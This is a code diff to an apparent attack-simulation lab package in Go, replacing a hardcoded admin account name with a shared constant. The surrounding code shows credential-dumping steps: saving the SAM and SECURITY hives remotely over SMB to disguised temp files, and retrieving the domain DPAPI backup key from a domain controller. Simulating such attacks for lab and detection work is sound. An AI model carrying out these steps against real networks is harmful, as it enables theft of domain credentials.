@@ -3,6 +3,7 @@ package attack
 import (
 	"time"
 
+	"github.com/yagura-project/yagura/lab/town/life"
 	"github.com/yagura-project/yagura/lab/town/stage"
 )
 
@@ -54,7 +55,7 @@ func dump(a *Act) {
 	a.Steps(Level(a, 1, 1, 1, 3, 6), func() time.Duration { return a.Around(time.Minute, 0.4) }, func(int) {
 		to := a.Other()
 		a.Deed.Victim = to.Name
-		x := a.SMBAs(to, "ADMIN$", "adm-yamada", false).Pipe("winreg").Call("winreg", "OpenLocalMachine", 2)
+		x := a.SMBAs(to, "ADMIN$", life.Admin, false).Pipe("winreg").Call("winreg", "OpenLocalMachine", 2)
 		for _, hive := range []string{"SAM", "SECURITY"} {
 			x.Call("winreg", "BaseRegCreateKey", 6, "key", hive).Call("winreg", "BaseRegSaveKey", 20, "file", `C:\Windows\Temp\`+hive[:2]+`8fK2.tmp`)
 		}
@@ -67,7 +68,7 @@ func dump(a *Act) {
 func backupKey(a *Act) {
 	dc := a.DC(a.Me)
 	a.Deed.Victim = dc.Name
-	a.SMBAs(dc, "IPC$", "adm-yamada", false).Pipe("lsarpc").Call("lsarpc", "LsarOpenPolicy2", 44).Call("lsarpc", "LsarRetrievePrivateData", 43, "key", "G$BCKUPKEY_PREFERRED").End()
+	a.SMBAs(dc, "IPC$", life.Admin, false).Pipe("lsarpc").Call("lsarpc", "LsarOpenPolicy2", 44).Call("lsarpc", "LsarRetrievePrivateData", 43, "key", "G$BCKUPKEY_PREFERRED").End()
 	a.Enough(200 * time.Millisecond)
 }
 
